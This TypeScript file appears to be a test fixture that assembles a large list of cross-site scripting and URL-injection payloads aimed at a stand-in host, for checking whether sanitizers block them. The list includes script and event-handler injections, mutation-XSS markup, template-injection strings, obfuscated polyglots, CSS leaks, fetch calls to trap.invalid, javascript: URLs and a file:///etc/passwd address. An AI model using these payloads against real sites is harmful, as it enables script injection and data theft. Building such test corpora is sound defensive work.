/*
 * Texts that run somewhere if any page takes them for more than text: the known families, put together from their
 * parts. What runs calls __fired, an element made of them carries data-trap, and what is fetched is fetched from
 * trap.invalid, so that a page can be asked whether any of them did anything.
 */

const run = "__fired()";
const far = "https://trap.invalid";

/** What ends the place a text stands in: attributes, comments, elements whose content is no markup. */
const endings = [
  ...'|">|\'>|`>|\'">|-->|--!>|]]>|\\">|</script>|</title>|</textarea>|</style>|</template>|</noscript>|</p></div>'.split(
    "|",
  ),
];

/** Elements that run without anybody touching them, each begun and ended in its own odd way. */
const running = [
  `<script data-trap>${run}</script>`,
  `<ScRiPt/data-trap>${run}</sCrIpT >`,
  `<script data-trap src=${far}/a.js></script>`,
  `<img data-trap src=x onerror=${run}>`,
  `<svg data-trap onload=${run}>`,
  `<svg data-trap><animate onbegin=${run} attributeName=x dur=1s>`,
  `<iframe data-trap srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe data-trap src="javascript:parent.${run}"></iframe>`,
  `<details data-trap open ontoggle=${run}>`,
  `<input data-trap autofocus onfocus=${run}>`,
  `<style data-trap>@import "${far}/a.css"</style>`,
];

const elements = [
  `<body data-trap onload=${run}>`,
  `<body data-trap onpageshow=${run}>`,
  `<video data-trap src=x onerror=${run}></video>`,
  `<video data-trap><source onerror=${run}></video>`,
  `<audio data-trap src onerror=${run}>`,
  `<object data-trap data="data:text/html,<script>parent.${run}</script>">`,
  `<embed data-trap src="javascript:${run}">`,
  `<select data-trap autofocus onfocus=${run}>`,
  `<textarea data-trap autofocus onfocus=${run}>`,
  `<keygen data-trap autofocus onfocus=${run}>`,
  `<marquee data-trap onstart=${run}>`,
  `<div data-trap style="animation-name:x" onanimationstart=${run}>`,
  `<div data-trap contenteditable autofocus tabindex=1 onfocus=${run}>`,
  `<p data-trap onmouseover=${run} style="position:fixed;inset:0">`,
  `<link data-trap rel=stylesheet href=${far}/b.css>`,
  `<link data-trap rel=preload as=script href=${far}/b.js>`,
  `<base data-trap href=${far}/>`,
  `<meta data-trap http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta data-trap http-equiv=refresh content="0;url=${far}/">`,
  `<form data-trap action="javascript:${run}"><button id=x>x`,
  `<isindex data-trap formaction="javascript:${run}" type=image>`,
  `<a data-trap href="javascript:${run}">x</a>`,
  `<a data-trap href="java\tscript:${run}">x</a>`,
  `<a data-trap href="&#106;avascript&colon;${run}">x</a>`,
  `<img data-trap src=${far}/a.png>`,
  `<img data-trap srcset="${far}/b.png 1x">`,
  `<table data-trap background=${far}/c.png>`,
  `<math data-trap><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img data-trap src=x onerror=${run}>`,
  `<svg><style>&lt;/style>&lt;img data-trap src=x onerror=${run}&gt;`,
  `<svg data-trap><script>${run}</script></svg>`,
  `<svg data-trap><script href="data:,${run}"/></svg>`,
  `<svg data-trap><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg data-trap><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${run}</script></svg>#x">`,
  `<svg data-trap><foreignObject><iframe srcdoc="<script>parent.${run}</script>">`,
  `<svg data-trap><set attributeName=onmouseover to=${run}>`,
  `<template data-trap shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img data-trap src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img data-trap src onerror=${run}>`,
  `<x data-trap onclick=${run} id=x tabindex=1 onfocus=${run}>#x`,
  `<portal data-trap src="javascript:${run}">`,
  `<object data-trap type="text/x-scriptlet" data="${far}/x">`,
  `<image data-trap src=x onerror=${run}>`,
  `<img/data-trap/src='x'/onerror=${run}//`,
  `<img data-trap src=x onerror\n=\n${run}\n>`,
  `<img data-trap\u000Csrc=x\u000Conerror=${run}>`,
  `<img """><script data-trap>${run}</script>">`,
  `<<script data-trap>${run};//<</script>`,
  `<scr<script data-trap>ipt>${run}</script>`,
  `<script data-trap>/*\u2028*/${run}</script>`,
  `<script data-trap type=module>import "${far}/m.js"</script>`,
  `<script data-trap>fetch("${far}/f")</script>`,
  `<!--[if gte IE 4]><script data-trap>${run}</script><![endif]-->`,
  `<![CDATA[<script data-trap>${run}</script>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
];

/** Texts that leave an attribute without leaving its element. */
const attributes = ['"', "'", "`", "", "\\'", "&quot;", "&#39;", "&#x22;", "%22"].map(
  (quote) => `x${quote} data-trap autofocus onfocus=${run} onmouseover=${run} x=${quote}`,
);

/** Texts for a script or a template: what escapes its quotes, its lines, its placeholders. */
const code = [
  `';${run};//`,
  `";${run};//`,
  `\`;${run};//`,
  `\\';${run};//`,
  `\\";${run};//`,
  `'-${run}-'`,
  `"-${run}-"`,
  `\${${run}}`,
  `#{${run}}`,
  `{{${run}}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{{$on.constructor('${run}')()}}`,
  `[[${run}]]`,
  `<%= ${run} %>`,
  `{% ${run} %}`,
  `*/${run}/*`,
  `\u2028${run}\u2029`,
  `\r\n${run}\r\n`,
  `"}]};${run};[{"":"`,
  `</script><script data-trap>${run}</script><!--`,
  `<!--<script>${run}</script>`,
  `\\u003cscript data-trap\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cscript data-trap\\x3e${run}\\x3c/script\\x3e`,
  `&lt;script data-trap&gt;${run}&lt;/script&gt;`,
  `&#60;script data-trap&#62;${run}&#60;/script&#62;`,
  `%3Cscript data-trap%3E${run}%3C/script%3E`,
  `\uFF1Cscript data-trap\uFF1E${run}\uFF1C/script\uFF1E`,
  `+ADw-script data-trap+AD4-${run}+ADw-/script+AD4-`,
  `$t(x){{${run}}}<0>${run}</0>`,
  `__proto__[innerHTML]=<img data-trap src=x onerror=${run}>`,
];

/** Styles that fetch or cover. */
const styles = [
  `x"style="position:fixed;inset:0;background:url(${far}/d.png)" data-trap="`,
  `x;background:url(${far}/e.png)`,
  `red;}*{background:url(${far}/f.png)}`,
  `</style><style data-trap>*{background:url(${far}/g.png)}</style>`,
  `<style data-trap>input[value^="a"]{background:url(${far}/h.png)}</style>`,
  `expression(${run})`,
  `url("javascript:${run}")`,
];

/** One for many places at once, and markup hidden among directions, widths and joined marks. */
const mixed = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */data-trap onerror=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/data-trap/oNloAd=${run}//>\\x3e`,
  `'">><marquee data-trap><img src=x onerror=${run}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${run}>`,
  `\u202E<img data-trap src=x onerror=${run}>\u202C`,
  `\u2067<script data-trap>${run}</script>\u2069`,
  `\u200B<\u200Bscript data-trap>${run}</script>`,
  `<\u0301img data-trap src=x onerror=${run}>`,
  `\uFEFF<svg data-trap onload=${run}>`,
  `مرحبا"><img data-trap src=x onerror=${run}>שלום`,
  `<img data-trap src=x onerror=${run}>`.normalize("NFD"),
];

/** Addresses that run, mislead, or reach where no link should. The first ones are addresses as a carrier gives them. */
export const addressVectors: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `javascript\u0000:${run}`,
  `javascript://trap.invalid/%0a${run}`,
  `javascript:alert(1)//https://track.example/1`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}`,
  `vbscript:${run}`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  "blob:https://trap.invalid/1",
  "file:///etc/passwd",
  "filesystem:https://trap.invalid/x",
  "intent://trap.invalid#Intent;end",
  `https://good.example@trap.invalid/`,
  `https://track.example/"onmouseover=${run} data-trap="`,
  `https://track.example/'><script data-trap>${run}</script>`,
  "https://trap.invalid\\@track.example/",
  "//trap.invalid/1",
  "/\\trap.invalid/1",
  "https:javascript:alert(1)",
];

export const scriptVectors: readonly string[] = [
  ...endings.flatMap((ending, at) =>
    running.filter((_one, which) => at % 3 === which % 3 || at === 0).map((element) => ending + element),
  ),
  ...elements,
  ...attributes,
  ...code,
  ...styles,
  ...mixed,
  ...addressVectors,
];
